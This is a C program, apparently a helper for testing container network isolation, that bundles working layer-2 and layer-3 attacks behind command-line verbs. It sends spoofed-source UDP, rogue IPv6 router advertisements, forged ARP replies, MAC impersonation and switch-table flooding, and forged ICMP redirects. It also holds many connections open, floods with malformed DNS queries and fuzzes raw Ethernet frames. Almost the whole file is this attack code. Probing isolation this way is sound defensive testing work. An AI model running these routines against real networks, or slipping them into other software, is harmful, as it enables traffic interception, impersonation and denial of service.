// What an attacker does with a network from within a container that a shell cannot.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netdb.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TARGETS_MAX 64
#define CLIENTS_MAX 4096
// More datagrams than any socket has room for.
#define FLOOD 10000

static int failed(const char *what) {
    printf("%s %s\n", what, strerrorname_np(errno));
    return 1;
}

static struct addrinfo *resolve(const char *address, const char *port, int type) {
    struct addrinfo hints = {.ai_socktype = type, .ai_flags = AI_NUMERICHOST | AI_NUMERICSERV}, *found = NULL;
    return getaddrinfo(address, port, &hints, &found) ? NULL : found;
}

// A datagram from wherever it says.
static int spoof(const char *source, const char *target, int port, const char *text) {
    struct {
        struct iphdr ip;
        struct udphdr udp;
        char text[64];
    } packet = {0};
    size_t length = strlen(text);
    if (length > sizeof packet.text)
        return 2;
    memcpy(packet.text, text, length);
    packet.ip.version = 4;
    packet.ip.ihl = 5;
    packet.ip.ttl = 64;
    packet.ip.protocol = IPPROTO_UDP;
    packet.ip.saddr = inet_addr(source);
    packet.ip.daddr = inet_addr(target);
    packet.udp.source = htons(4000);
    packet.udp.dest = htons(port);
    packet.udp.len = htons(sizeof packet.udp + length);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = packet.ip.daddr};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    size_t size = sizeof packet.ip + sizeof packet.udp + length;
    if (fd < 0 || sendto(fd, &packet, size, 0, (struct sockaddr *)&to, sizeof to) < 0)
        return failed("spoof");
    puts("spoof ok");
    return 0;
}

// Says to all on the link that this is the router to everywhere, and which addresses there are.
static int advertise(const char *interface) {
    struct {
        struct nd_router_advert advert;
        struct nd_opt_prefix_info prefix;
    } packet = {0};
    packet.advert.nd_ra_type = ND_ROUTER_ADVERT;
    packet.advert.nd_ra_router_lifetime = htons(1800);
    packet.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
    packet.prefix.nd_opt_pi_len = 4;
    packet.prefix.nd_opt_pi_prefix_len = 64;
    packet.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
    packet.prefix.nd_opt_pi_valid_time = packet.prefix.nd_opt_pi_preferred_time = htonl(3600);
    inet_pton(AF_INET6, "fd00:bad::", &packet.prefix.nd_opt_pi_prefix);
    struct sockaddr_in6 to = {.sin6_family = AF_INET6};
    inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
    int hops = 255, fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, interface, strlen(interface)) ||
        setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops))
        return failed("advertise");
    // Its own address on the link takes a moment until it may be used.
    for (int attempt = 0; attempt < 200; attempt++) {
        if (sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) >= 0) {
            puts("advertise ok");
            return 0;
        }
        usleep(50000);
    }
    return failed("advertise");
}

// Says of each datagram who it is from and what it says, and perhaps says it again to them.
static int hear(const char *address, const char *port, int answers) {
    struct addrinfo *at = resolve(address, port, SOCK_DGRAM);
    int fd = at ? socket(at->ai_family, SOCK_DGRAM, 0) : -1;
    if (fd < 0 || bind(fd, at->ai_addr, at->ai_addrlen))
        return failed("hear");
    puts("hearing");
    for (;;) {
        struct sockaddr_storage from;
        socklen_t size = sizeof from;
        char text[128], host[64];
        ssize_t length = recvfrom(fd, text, sizeof text, 0, (struct sockaddr *)&from, &size);
        if (length >= 0 && !getnameinfo((struct sockaddr *)&from, size, host, sizeof host, NULL, 0, NI_NUMERICHOST))
            printf("%s %.*s\n", host, (int)length, text);
        if (answers && length >= 0)
            (void)!sendto(fd, text, length, 0, (struct sockaddr *)&from, size);
        fflush(stdout);
    }
}

// Tells every client by TCP who answers and who it seems to be, and then says again what it says.
static int serve(const char *name, const char *port) {
    struct addrinfo *at = resolve("::", port, SOCK_STREAM);
    int no = 0, yes = 1, fd = at ? socket(at->ai_family, SOCK_STREAM, 0) : -1;
    if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &no, sizeof no) ||
        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes) || bind(fd, at->ai_addr, at->ai_addrlen) ||
        listen(fd, 128))
        return failed("serve");
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        struct sockaddr_in6 from;
        socklen_t size = sizeof from;
        int client = accept(fd, (struct sockaddr *)&from, &size);
        if (client < 0)
            continue;
        if (fork() == 0) {
            char host[64], text[4096];
            inet_ntop(AF_INET6, &from.sin6_addr, host, sizeof host);
            const char *plain = strncmp(host, "::ffff:", 7) ? host : host + 7;
            dprintf(client, "%s sees %s\n", name, plain);
            for (ssize_t length; (length = read(client, text, sizeof text)) > 0;)
                if (write(client, text, length) != length)
                    break;
            _exit(0);
        }
        close(client);
    }
}

// Tries many servers at once, each LABEL=ADDRESS=PORT, and says of each what it says, or why it says nothing.
static int reach(int seconds, char **words, int count) {
    struct pollfd polled[TARGETS_MAX];
    char said[TARGETS_MAX][128] = {0};
    char *labels[TARGETS_MAX];
    if (count > TARGETS_MAX)
        return 2;
    for (int at = 0; at < count; at++) {
        labels[at] = strtok(words[at], "=");
        const char *address = strtok(NULL, "="), *port = strtok(NULL, "=");
        struct addrinfo *to = resolve(address, port, SOCK_STREAM);
        polled[at] = (struct pollfd){.fd = to ? socket(to->ai_family, SOCK_STREAM | SOCK_NONBLOCK, 0) : -1};
        polled[at].events = POLLIN;
        if (!to || (connect(polled[at].fd, to->ai_addr, to->ai_addrlen) && errno != EINPROGRESS)) {
            snprintf(said[at], sizeof said[at], "%s", strerrorname_np(errno));
            polled[at].fd = -1;
        }
    }
    struct timespec begin, now;
    clock_gettime(CLOCK_MONOTONIC, &begin);
    int waiting = 1;
    do {
        poll(polled, count, 100);
        waiting = 0;
        for (int at = 0; at < count; at++) {
            if (polled[at].fd >= 0 && polled[at].revents) {
                ssize_t length = read(polled[at].fd, said[at], sizeof said[at] - 1);
                if (length <= 0)
                    snprintf(said[at], sizeof said[at], "%s", length ? strerrorname_np(errno) : "closed");
                polled[at].fd = -1;
            }
            waiting |= polled[at].fd >= 0;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (waiting && now.tv_sec - begin.tv_sec < seconds);
    for (int at = 0; at < count; at++) {
        said[at][strcspn(said[at], "\n")] = 0;
        printf("%s: %s\n", labels[at], said[at][0] ? said[at] : "nothing");
    }
    return 0;
}

// Opens so many connections, says the first byte of a message to each, and keeps them.
static int hold(const char *address, const char *port, int count) {
    struct addrinfo *to = resolve(address, port, SOCK_STREAM);
    int opened = 0;
    if (!to || count > CLIENTS_MAX)
        return 2;
    signal(SIGPIPE, SIG_IGN);
    for (int at = 0; at < count; at++) {
        int fd = socket(to->ai_family, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, to->ai_addr, to->ai_addrlen))
            return failed("hold");
        opened += write(fd, "\1", 1) == 1;
    }
    printf("held %d\n", opened);
    fflush(stdout);
    for (;;)
        pause();
}

// Sends noise that is nearly messages, as fast as it goes.
static int flood(const char *address, const char *port) {
    struct addrinfo *to = resolve(address, port, SOCK_DGRAM);
    int fd = to ? socket(to->ai_family, SOCK_DGRAM, 0) : -1;
    if (fd < 0 || connect(fd, to->ai_addr, to->ai_addrlen))
        return failed("flood");
    srand(1);
    for (unsigned long count = 0;; count++) {
        if (count % FLOOD == 0)
            printf("flooded %lu\n", count / FLOOD);
        unsigned char bytes[600];
        size_t length = rand() % sizeof bytes;
        for (size_t at = 0; at < length; at++)
            bytes[at] = rand();
        if (length > 12 && count % 2) {
            // A query with counts that lie, and a name that may point at itself.
            memcpy(bytes + 2, "\1\0\0\1\0\0\0\0\0\0", 10);
            if (count % 4 == 1 && length > 14)
                memcpy(bytes + 12, "\xc0\x0c", 2);
        }
        // That nobody listens any more, or that there is no room, ends nothing.
        (void)!send(fd, bytes, length, 0);
    }
}

// A socket for whole frames, and the interface's own address.
static int frames(const char *interface, unsigned char *mac) {
    struct ifreq request = {0};
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_NONBLOCK, htons(ETH_P_ALL));
    if (fd < 0)
        return -1;
    at.sll_ifindex = if_nametoindex(interface);
    strncpy(request.ifr_name, interface, sizeof request.ifr_name - 1);
    if (bind(fd, (struct sockaddr *)&at, sizeof at) || ioctl(fd, SIOCGIFHWADDR, &request))
        return -1;
    memcpy(mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
    return fd;
}

static void read_mac(const char *text, unsigned char *mac) {
    for (int at = 0; at < ETH_ALEN; at++)
        mac[at] = strtoul(text + 3 * at, NULL, 16);
}

// Sends frames as if they were another's, and says so when it gets one that is for that one.
static int pose(const char *interface, const char *whose) {
    struct ether_header frame[4] = {{.ether_type = htons(0x88b5)}}, heard[128];
    unsigned char own[ETH_ALEN], other[ETH_ALEN];
    int fd = frames(interface, own);
    if (fd < 0)
        return failed("pose");
    read_mac(whose, other);
    memset(frame->ether_dhost, 0xff, ETH_ALEN);
    puts("posing");
    for (unsigned count = 0;; count++) {
        // Every other one is nobody's, to fill the table of who is where.
        memcpy(frame->ether_shost, other, ETH_ALEN);
        if (count % 2) {
            frame->ether_shost[0] = 2;
            memcpy(frame->ether_shost + 2, &count, 4);
        }
        (void)!send(fd, frame, sizeof frame, 0);
        for (ssize_t length; (length = recv(fd, heard, sizeof heard, 0)) > 0;)
            if (!memcmp(heard->ether_dhost, other, ETH_ALEN) && heard->ether_type == htons(ETH_P_IP))
                puts("overheard");
        usleep(500);
    }
}

// Tells one on the link, by its address there, that an address of IPv4 is here.
static int lie(const char *interface, const char *address, const char *whom) {
    struct {
        struct ether_header ether;
        struct arphdr arp;
        unsigned char from[ETH_ALEN], from_address[4], to[ETH_ALEN], to_address[4];
    } __attribute__((packed)) frame = {0};
    int fd = frames(interface, frame.ether.ether_shost);
    if (fd < 0)
        return failed("lie");
    read_mac(whom, frame.ether.ether_dhost);
    frame.ether.ether_type = htons(ETH_P_ARP);
    frame.arp = (struct arphdr){htons(ARPHRD_ETHER), htons(ETH_P_IP), ETH_ALEN, 4, htons(ARPOP_REPLY)};
    memcpy(frame.from, frame.ether.ether_shost, ETH_ALEN);
    memcpy(frame.to, frame.ether.ether_dhost, ETH_ALEN);
    inet_pton(AF_INET, address, frame.from_address);
    memcpy(frame.to_address, frame.from_address, 4);
    puts("lying");
    for (;;) {
        (void)!send(fd, &frame, sizeof frame, 0);
        usleep(500);
    }
}

// Sends so many frames that are nearly packets, and as many that are none, to everybody and to one on the link.
static int noise(const char *interface, const char *whom, int count) {
    static const unsigned short kinds[] = {ETH_P_IP, ETH_P_IPV6, ETH_P_ARP};
    static const unsigned char protocols[] = {IPPROTO_TCP, IPPROTO_UDP, IPPROTO_ICMP, IPPROTO_ICMPV6};
    unsigned char frame[1514], own[ETH_ALEN], other[ETH_ALEN];
    int fd = frames(interface, own), sent = 0;
    if (fd < 0)
        return failed("noise");
    read_mac(whom, other);
    srand(1);
    while (sent < count) {
        size_t length = ETH_HLEN + rand() % (sizeof frame - ETH_HLEN);
        for (size_t at = 0; at < length; at++)
            frame[at] = rand();
        memset(frame, 0xff, ETH_ALEN);
        if (sent % 8)
            memcpy(frame, other, ETH_ALEN);
        memcpy(frame + ETH_ALEN, own, ETH_ALEN);
        if (sent % 2 && length >= ETH_HLEN + 40) {
            unsigned short kind = kinds[rand() % 3];
            unsigned char protocol = protocols[rand() % 4], *ip = frame + ETH_HLEN;
            frame[12] = kind >> 8;
            frame[13] = kind;
            // The lengths in the headers are sometimes right.
            unsigned short rest = rand() % 2 ? length - ETH_HLEN : rand();
            if (kind == ETH_P_IP) {
                ip[0] = 0x45;
                ip[2] = rest >> 8;
                ip[3] = rest;
                ip[9] = protocol;
            } else if (kind == ETH_P_IPV6) {
                ip[0] = 0x60;
                ip[4] = rest >> 8;
                ip[5] = rest;
                ip[6] = protocol;
            }
        }
        // One that finds no room is sent again.
        sent += send(fd, frame, length, 0) >= 0 || errno != ENOBUFS;
    }
    printf("sent %d\n", sent);
    return 0;
}

// Tells one, in the name of its gateway, that another way to somewhere is better.
static int redirect(const char *gateway, const char *whom, const char *way, const char *where) {
    struct {
        struct iphdr ip;
        struct icmphdr icmp;
        struct iphdr about;
        struct icmphdr answer;
    } packet = {0};
    packet.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_ICMP};
    packet.ip.saddr = inet_addr(gateway);
    packet.ip.daddr = inet_addr(whom);
    packet.icmp.type = ICMP_REDIRECT;
    packet.icmp.code = ICMP_REDIR_HOST;
    packet.icmp.un.gateway = inet_addr(way);
    packet.about = (struct iphdr){.version = 4, .ihl = 5, .ttl = 63, .protocol = IPPROTO_ICMP};
    packet.about.tot_len = htons(sizeof packet.about + sizeof packet.answer);
    packet.about.saddr = packet.ip.daddr;
    packet.about.daddr = inet_addr(where);
    // An answer of the kernel's own, of which it keeps no socket.
    packet.answer.type = ICMP_ECHOREPLY;
    unsigned sum = 0;
    for (unsigned short *word = (unsigned short *)&packet.icmp; word < (unsigned short *)(&packet + 1); word++)
        sum += *word;
    sum = (sum >> 16) + (sum & 0xffff);
    packet.icmp.checksum = ~(sum + (sum >> 16));
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = packet.ip.daddr};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0 || sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0)
        return failed("redirect");
    puts("redirect ok");
    return 0;
}

// Asks a name server once for the address of a name of one label, and says what is answered.
static int query(const char *address, const char *port, const char *name) {
    struct addrinfo *to = resolve(address, port, SOCK_DGRAM);
    int fd = to ? socket(to->ai_family, SOCK_DGRAM, 0) : -1;
    unsigned char bytes[512] = "\0\1\1\0\0\1\0\0\0\0\0\0";
    size_t length = strlen(name), at = 12;
    if (fd < 0 || length > 63 || connect(fd, to->ai_addr, to->ai_addrlen))
        return failed("query");
    bytes[at++] = length;
    memcpy(bytes + at, name, length);
    memcpy(bytes + at + length, "\0\0\1\0\1", 5);
    if (send(fd, bytes, at + length + 5, 0) < 0)
        return failed("query");
    puts("asked");
    fflush(stdout);
    ssize_t heard = recv(fd, bytes, sizeof bytes, 0);
    if (heard < 4)
        return failed("query");
    // The address is what an answer ends with.
    unsigned char *end = bytes + heard - 4;
    printf("answered %d.%d.%d.%d\n", end[0], end[1], end[2], end[3]);
    return 0;
}

int main(int count, char **words) {
    setlinebuf(stdout);
    const char *verb = count > 1 ? words[1] : "";
    if (!strcmp(verb, "spoof") && count == 6)
        return spoof(words[2], words[3], atoi(words[4]), words[5]);
    if (!strcmp(verb, "advertise") && count == 3)
        return advertise(words[2]);
    if (!strcmp(verb, "hear") && count == 4)
        return hear(words[2], words[3], 0);
    if (!strcmp(verb, "answer") && count == 4)
        return hear(words[2], words[3], 1);
    if (!strcmp(verb, "serve") && count == 4)
        return serve(words[2], words[3]);
    if (!strcmp(verb, "reach") && count > 3)
        return reach(atoi(words[2]), words + 3, count - 3);
    if (!strcmp(verb, "hold") && count == 5)
        return hold(words[2], words[3], atoi(words[4]));
    if (!strcmp(verb, "pose") && count == 4)
        return pose(words[2], words[3]);
    if (!strcmp(verb, "lie") && count == 5)
        return lie(words[2], words[3], words[4]);
    if (!strcmp(verb, "noise") && count == 5)
        return noise(words[2], words[3], atoi(words[4]));
    if (!strcmp(verb, "redirect") && count == 6)
        return redirect(words[2], words[3], words[4], words[5]);
    if (!strcmp(verb, "query") && count == 5)
        return query(words[2], words[3], words[4]);
    if (!strcmp(verb, "flood") && count == 4)
        return flood(words[2], words[3]);
    return 2;
}
